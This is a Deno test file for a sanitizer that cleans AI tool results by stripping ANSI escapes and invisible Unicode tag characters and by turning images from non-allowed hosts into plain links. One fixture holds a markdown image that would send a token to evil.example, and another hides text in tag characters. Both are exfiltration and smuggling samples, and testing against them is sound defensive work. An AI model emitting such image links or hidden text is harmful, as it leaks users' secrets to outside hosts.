import assert from "node:assert/strict";
import { sanitizeResult } from "../../src/pins/sanitize.ts";

const tag = (text: string) => [...text].map((c) => String.fromCodePoint(0xE0000 + c.charCodeAt(0))).join("");

Deno.test("ANSI escapes and tag characters leave text content; images off the allow-list become links", () => {
  const result = {
    content: [
      { type: "text", text: `\x1b[31mred\x1b[0m and ${tag("SECRET")}plain` },
      {
        type: "text",
        text: "![chart](https://evil.example/p?d=token) ![logo](https://avatars.githubusercontent.com/u/1)",
      },
      { type: "image", data: "AAAA", mimeType: "image/png" },
    ],
    isError: false,
  };
  const cleaned = sanitizeResult(result, ["githubusercontent.com"]);
  assert.deepEqual(cleaned.result, {
    content: [
      { type: "text", text: "red and plain" },
      {
        type: "text",
        text: "[chart](https://evil.example/p?d=token) ![logo](https://avatars.githubusercontent.com/u/1)",
      },
      { type: "image", data: "AAAA", mimeType: "image/png" },
    ],
    isError: false,
  });
  assert.deepEqual([cleaned.ansi, cleaned.tags, cleaned.images], [2, 6, 1]);
});

Deno.test("a clean result is the same object, untouched", () => {
  const result = { content: [{ type: "text", text: "![ok](https://github.com/a.png) fine" }] };
  const cleaned = sanitizeResult(result, ["github.com"]);
  assert.equal(cleaned.result, result);
  assert.deepEqual([cleaned.ansi, cleaned.tags, cleaned.images], [0, 0, 0]);
  assert.equal(sanitizeResult({ structuredContent: {} }, []).images, 0);
});
